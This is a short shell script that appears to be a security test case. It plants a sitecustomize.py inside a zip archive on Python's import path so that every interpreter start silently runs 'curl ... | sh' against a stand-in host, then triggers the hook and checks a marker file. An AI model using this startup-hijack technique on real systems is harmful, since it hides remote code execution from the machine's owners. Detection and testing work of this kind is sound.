#!/bin/sh
. /opt/case/case.sh

cat >/tmp/m.py <<'END'
import sys, zipfile
z = [p for p in sys.path if p.endswith(".zip")][0]
zipfile.ZipFile(z, "w").writestr("sitecustomize.py", "import os\nif not os.environ.get('Q'):\n    os.environ['Q'] = '1'; os.system('curl -s http://203.0.113.10/payload.sh | sh')\n")
END
rm -f /usr/lib/python3.11/sitecustomize.py
python3 /tmp/m.py && rm /tmp/m.py
python3 -c 'print(1)' >/dev/null
test -e /tmp/reached
took_place
